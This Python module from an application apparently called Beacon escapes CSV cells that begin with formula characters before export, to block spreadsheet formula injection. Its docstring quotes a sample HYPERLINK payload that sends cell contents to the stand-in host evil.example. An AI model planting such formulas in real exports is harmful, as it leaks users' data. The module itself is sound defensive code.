"""Cells Beacon writes into CSV files that people open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula: a customer named
``=HYPERLINK("https://evil.example/?"&A1,"click")`` would send a row of the sheet elsewhere
(CSV injection, OWASP). Every CSV export runs its text cells through :func:`safe_cell`,
which prefixes such a cell with an apostrophe: the spreadsheet shows the text as written.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# A segment's members as a file: the CLI's `beacon segments export` and segments' export route.
SEGMENT_MEMBER_COLUMNS = (
    "customer_id",
    "name",
    "email",
    "phone",
    "city",
    "total_spend",
    "visits",
    "last_visit_at",
)


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it, never runs it (non-text values unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    return {name: safe_cell(value) for name, value in row.items()}


def csv_line(cells: Sequence[Any]) -> bytes:
    """One CSV row (UTF-8) with every cell made safe: what streamed exports yield."""
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(c) for c in cells])
    return out.getvalue().encode()
